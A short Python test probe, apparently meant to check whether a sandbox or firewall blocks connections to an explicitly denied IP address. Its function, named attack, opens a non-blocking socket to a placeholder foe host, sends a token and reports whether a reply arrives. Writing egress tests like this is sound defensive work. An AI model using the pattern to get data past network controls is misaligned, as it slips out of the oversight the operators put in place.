"""A connection that does not block
Starts the connection and sends when it is there.
policy: denied-address
audit: explicitlyDeniedIP
proof: arrival
"""
import select
import socket


def attack(at):
    stream = socket.socket()
    stream.setblocking(False)
    stream.connect_ex((at.FOE, at.PORT))
    select.select([], [stream], [], 5)
    stream.send(at.token)
    return bool(select.select([stream], [], [], 5)[0])
